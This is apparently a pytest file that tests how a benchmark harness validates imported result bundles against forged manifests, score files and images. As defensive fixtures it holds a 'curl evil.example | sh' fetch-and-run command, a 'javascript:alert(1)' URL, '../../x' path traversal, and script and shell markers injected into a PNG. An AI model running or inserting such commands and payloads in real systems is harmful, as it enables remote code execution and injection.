"""Runs of bundles that are not what they say: whatever is claimed, our data, rules and split decide."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Literal

import pytest

from adbench_harness.api import AdbenchError, DataError, NotImportedError, Options, UnknownNameError
from adbench_harness.bundles.checking import _variant, check
from adbench_harness.bundles.opening import opened
from adbench_harness.bundles.options import options_of
from adbench_harness.bundles.planning import Surroundings

Forge = Callable[..., Path]
Edit = Callable[[dict[str, Any]], object]
ROW = re.compile(r"^(\d\d),test,1,disc,(.+)$", re.M)


def manifest(edit: Edit) -> dict[str, Callable[[bytes], bytes]]:
    """A manifest that was edited by hand."""

    def change(content: bytes) -> bytes:
        plain = json.loads(content)
        edit(plain)
        return json.dumps(plain).encode()

    return {"manifest.json": change}


def scores(change: Callable[[str], str]) -> dict[str, Callable[[bytes], bytes]]:
    return {"scores.csv": lambda content: change(content.decode()).encode()}


@pytest.fixture
def look(made: Any, around: Surroundings) -> Callable[[Path], Any]:
    def run(bundle: Path, within: Surroundings = around) -> Any:
        with opened(bundle) as found:
            return check(found, made.run_id, within, with_images=True)

    return run


@pytest.fixture
def refusal(look: Callable[..., Any], made: Any) -> Callable[..., str]:
    def run(bundle: Path, kind: type[AdbenchError] = DataError, **changes: Any) -> str:
        with pytest.raises(kind) as error:
            look(bundle, **changes)
        assert "\n" not in str(error.value)
        assert made.run_id in str(error.value)
        return str(error.value)

    return run


def test_what_is_stored_is_ours_but_for_scores_and_what_nobody_here_can_know(made: Any, look: Any, forge: Forge) -> None:
    def lie(plain: dict[str, Any]) -> None:
        plain["command"] = "curl evil.example | sh"
        plain["variant"] = "the best model"
        plain["dataset"].update(licence="none", title="Mine", tasks={"easy": ["disc"]}, partial=None, independent_source="x")
        plain["model"].update(title="Better", paper="mine", url="javascript:alert(1)", options={})
        plain["protocol"].update(title="Mine", split_rule="as I like", evaluation={"thresholds": ["best-f1"]}, overrides={})
        plain["environment"]["editor"] = "vi"
        plain["received"] = {"bundle": "0", "imported": "2026-01-01T00:00:00Z", "signer": "the dean"}
        plain["files"] = {"../../x": "0"}

    found, honest = look(forge(manifest(lie))), look(made.bundle)
    assert found.manifest.model_copy(update={"environment": honest.manifest.environment}) == honest.manifest
    assert found.manifest.environment["editor"] == "vi"
    assert honest.manifest.command.startswith(
        "adbench run --model pca --dataset tiny-discs --protocol tiny-protocol --split 0 --seed 0"
    )
    assert honest.manifest.command.endswith("--set components=4")
    assert honest.manifest.variant == "pca (components=4)"
    assert {one.image for one in honest.learnt}.isdisjoint(honest.scores.image)
    assert honest.examples is not None


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (
            lambda text: ROW.sub(r"\1,test,0,normal,\2", text, count=2),
            "2 images ('40', '41') with another label than the dataset has here",
        ),
        (lambda text: ROW.sub(r"\1,test,1,square,\2", text, count=1), "('40': label 1, square in the bundle; 1, disc here)"),
        (
            lambda text: ROW.sub(r"\1,held_out,1,disc,\2", text, count=1),
            "in another subset than in our split ('40' is test here)",
        ),
        (lambda text: ROW.sub("", text, count=1).replace("\n\n", "\n"), "lacks scores of 1 image ('40') held out or tested"),
        (lambda text: text + "../../x,test,1,disc,0.5\n", "scores 1 image ('../../x') not held out or tested in our split"),
        (lambda text: ROW.sub(r"\1,test,1,disc,nan", text, count=1), "the score of image '40' is nan"),
        (lambda text: re.sub(r"(?<=,)[0-9.e-]+(?=\r?$)", "0.5", text, flags=re.M), "test images have the same score"),
    ],
)
def test_scores_of_other_images_or_labels(forge: Forge, refusal: Any, change: Callable[[str], str], said: str) -> None:
    assert said in refusal(forge(scores(change)))


def test_a_score_that_was_changed_with_care_is_taken_as_said(look: Any, forge: Forge) -> None:
    found = look(forge(scores(lambda text: ROW.sub(r"\1,test,1,disc,99.0", text, count=1))))
    assert found.scores.score.max() == 99.0  # what makes a status of it is test_verifying's


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (
            lambda m: m["dataset"].update(fingerprint="0" * 16),
            "is on tiny-discs with fingerprint 0000000000000000, and that of the files",
        ),
        (lambda m: m["dataset"]["counts"].update(test_abnormal=999), "its manifest counts 999 test abnormal"),
        (lambda m: m["training"].update(images=5), "it states 5 training images; by our files and split there are"),
        (
            lambda m: m["cell"].update(seed=1),
            "its id does not match its cell, data, split and code, whose run is pca-tiny-discs-",
        ),
        (lambda m: m["cell"].update(seed=-1), "seed -1 is not between 0"),
        (lambda m: m["cell"].update(split=1), "held out or tested in our split"),
        (lambda m: m["cell"].update(split=99), "no split 99"),
        (lambda m: m["cell"].update(fit_digest="f" * 16), "its fit digest is ffffffffffffffff, and tiny-protocol with the rules"),
        (lambda m: m["protocol"].update(fit_digest="f" * 16), "states fit digest ffffffffffffffff"),
        (lambda m: m["protocol"]["fit"].update(epochs=7), "its fit digest is"),
        (lambda m: m["protocol"]["fit"].update(image_size=2), "its rules of training are none of tiny-protocol: image_size"),
        (lambda m: m["protocol"].update(version=9), "is under tiny-protocol version 9, and here is version 1"),
        (lambda m: m["cell"]["options"].update(components=0), "none of the model as it is installed here: components"),
        (lambda m: m["cell"]["options"].update(secret=1), "none of the model as it is installed here: secret"),
        (lambda m: m["cell"]["options"].pop("grid"), "option grid is stated as None; it would be 64"),
        (lambda m: m["plugins"]["model"].update(revision="99"), "its id does not match its cell"),
        (lambda m: m["cell"].update(trained_on="phantom"), "such runs are never ranked and don't go in bundles"),
        (lambda m: m.update(run_id="pca-tiny-discs-0000000000000000"), "its manifest is of run pca-tiny-discs-0000000000000000"),
        (lambda m: m.update(created="yesterday"), "created is no time of the form"),
        (lambda m: m.update(format=99), "written by a newer adbench"),
        (lambda m: m["timings"].update(train=-1.0), "timings.train: Input should be greater than or equal to 0"),
        (lambda m: m["timings"].update(train=float("nan")), "not the manifest of a run"),
        (lambda m: m["model"]["given"].update(x=float("inf")), "not the manifest of a run"),
        (lambda m: m["model"].update(parameters="many"), "detector.parameters"),
        (lambda m: m["compute"].update(device_name="a\nb"), "has unprintable characters"),
        (lambda m: m["compute"].update(device_name="x" * 501), "at most 500 characters"),
        (lambda m: m.pop("cell"), "not the manifest of a run: cell: Field required"),
        (lambda m: m["plugins"].pop("model"), "not the manifest of a run: plugin"),
    ],
)
def test_manifests_that_lie(forge: Forge, refusal: Any, edit: Edit, said: str) -> None:
    assert said in refusal(forge(manifest(edit)))


def test_a_run_that_was_made_in_the_future_would_stand_for_ever(forge: Forge, refusal: Any) -> None:
    later = (datetime.now(UTC) + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert "made in the future" in refusal(forge(manifest(lambda m: m.update(created=later))))


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda m: m["cell"].update(model="best"), "is of model 'best' of adbench-harness 0.1.0, which is not installed here"),
        (
            lambda m: m["plugins"]["model"].update(distribution="their-wheel"),
            "is of model 'pca' of their-wheel 0.1.0, which is not installed",
        ),
        (
            lambda m: m["cell"].update(protocol="theirs"),
            "under a protocol that is not installed here: no protocol is called 'theirs'",
        ),
        (lambda m: m["cell"].update(dataset="folder-mine"), "if it is a folder of yours, say where: --dataset folder:/path"),
    ],
)
def test_names_that_are_not_installed(forge: Forge, refusal: Any, edit: Edit, said: str) -> None:
    assert said in refusal(forge(manifest(edit)), UnknownNameError)


def test_a_manifest_that_is_none(forge: Forge, refusal: Any) -> None:
    for content in (b"", b"\x80\x04}", b"[]", b"{" * 10_000, b'{"format": 1}'):
        assert "not the manifest of a run" in refusal(forge({"manifest.json": content}))


def test_data_that_is_not_here_is_named_with_what_to_type(forge: Forge, refusal: Any) -> None:
    said = refusal(forge(manifest(lambda m: m["cell"].update(dataset="mias"))), NotImportedError)
    assert "can't be checked without its data: dataset mias is not in" in said
    assert "adbench datasets import mias PATH" in said


def test_a_folder_of_one_s_own_is_checked_where_the_importer_has_it(tmp_path: Path, made: Any, tiny: Path) -> None:
    from adbench_harness.bundles.writing import Wanted, write_bundle
    from adbench_harness.home import Home, Results
    from adbench_harness.plan import RunRequest, plan
    from adbench_harness.runner import Conditions, run_one

    listed = plan(RunRequest("pca", "tiny-discs", "tiny-protocol"), made.home).listing
    for sample in listed.samples:
        place = tmp_path / "clinic" / ("abnormal" if sample.label else "normal")
        place.mkdir(parents=True, exist_ok=True)
        shutil.copy(listed.root / sample.path, place)
    request = RunRequest("pca", f"folder:{tmp_path / 'clinic'}", "esmaeili2023", settings={"components": "4"}, device="cpu")
    home, results = Home(tmp_path / "home"), Results(tmp_path / "results")
    run_id = run_one(plan(request, home), Conditions(home, results)).manifest.run_id
    bundle = write_bundle(results, [run_id], tmp_path / "own.adbench", Wanted()).path
    assert str(tmp_path).encode() not in bundle.read_bytes()
    elsewhere = Home(tmp_path / "elsewhere")  # whose salt is another
    with opened(bundle) as found:
        with pytest.raises(UnknownNameError, match="--dataset folder:/path"):
            check(found, run_id, Surroundings(elsewhere), with_images=False)
        done = check(found, run_id, Surroundings(elsewhere, (f"folder:{tmp_path / 'clinic'}",)), with_images=False)
    assert done.manifest.run_id == run_id


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"examples/examples.json": b"{}"}, "not a list of examples"),
        ({"examples/00-input.png": b"GIF89a"}, "00-input.png: is no PNG that can be decoded"),
        ({"examples/00-input.png": b"\x89PNG\r\n\x1a\n"}, "is no PNG that can be decoded"),
        ({"examples/00-input.png": None}, "there is no such picture"),
        ({"examples/examples.json": lambda old: old.replace(b"00-input.png", b"../../x.png")}, "there is no such picture"),
        (
            {"examples/examples.json": lambda old: re.sub(rb'"image": "..?"', b'"image": "x"', old, count=1)},
            "'x' is no test image",
        ),
        ({"examples/examples.json": lambda old: re.sub(rb'"map_white": [0-9.e-]+', b'"map_white": NaN', old)}, "map_white of"),
        ({"examples/examples.json": lambda old: json.dumps(json.loads(old) * 20).encode()}, "more than 100"),
    ],
)
def test_pictures_that_are_none(forge: Forge, refusal: Any, files: dict[str, Any], said: str) -> None:
    assert said in refusal(forge(files))


def test_pictures_are_written_anew_and_say_what_we_know(forge: Forge, look: Any, contents: Any) -> None:
    import io

    from PIL import Image, PngImagePlugin

    def with_a_secret(content: bytes) -> bytes:
        info, out = PngImagePlugin.PngInfo(), io.BytesIO()
        info.add_text("comment", "<script>")
        Image.open(io.BytesIO(content)).save(out, "PNG", pnginfo=info)
        return out.getvalue() + b"#!/bin/sh"

    def said(content: bytes) -> bytes:
        plain = json.loads(content)
        plain[0].update(label=1, subtype="<b>", score=9.0)
        return json.dumps(plain).encode()

    found = look(forge({"examples/00-input.png": with_a_secret, "examples/examples.json": said})).examples
    assert b"<script>" not in found.files["00-input.png"]
    assert b"#!/bin/sh" not in found.files["00-input.png"]
    assert (found.listed[0].label, found.listed[0].subtype) == (0, "normal")
    assert found.listed[0].score != 9.0
    huge = io.BytesIO()
    Image.new("L", (1025, 1)).save(huge, "PNG")
    with pytest.raises(DataError, match="1025 x 1 pixels, more than 1024 a side"):
        look(forge({"examples/00-input.png": huge.getvalue()}))


class WithFile(Options):
    width: int = 8
    teacher: Literal["random"] | Path = "random"


@pytest.mark.parametrize(
    ("name", "good"),
    [
        ("kd (width=9, teacher=imagenet@25d244c5)", True),
        ("kd (teacher=imagenet@25d244c5)", True),  # a model need not name every option
        ("kd (width=10, teacher=imagenet@25d244c5)", False),
        ("kd (width=9)", False),
        ("kd", False),
        ("kd (teacher=the best)", False),
        ("kd (teacher=imagenet@25d244c5, better=yes)", False),
        ("best (width=9, teacher=imagenet@25d244c5)", False),
        ("kd (width=9, teacher=imagenet@25d244c5) (re-trained)", False),
    ],
)
def test_the_name_of_options_with_a_file_that_is_not_here_says_nothing_but_them(name: str, good: bool) -> None:
    cell: dict[str, Any] = {"width": 9, "teacher": {"sha256": "ab" * 32}}
    options = options_of(WithFile, cell, {}, "run x")
    model = SimpleNamespace(spec=SimpleNamespace(name="kd", options=WithFile))
    plan: Any = SimpleNamespace(options=options, model=model, cell=SimpleNamespace(options=cell), variant="ours")
    stated: Any = SimpleNamespace(variant=name)
    if good:
        assert _variant(stated, plan, "here") == name
    else:
        with pytest.raises(DataError, match=r"here: it calls itself .*, which are not the options it states \(ours\)"):
            _variant(stated, plan, "here")
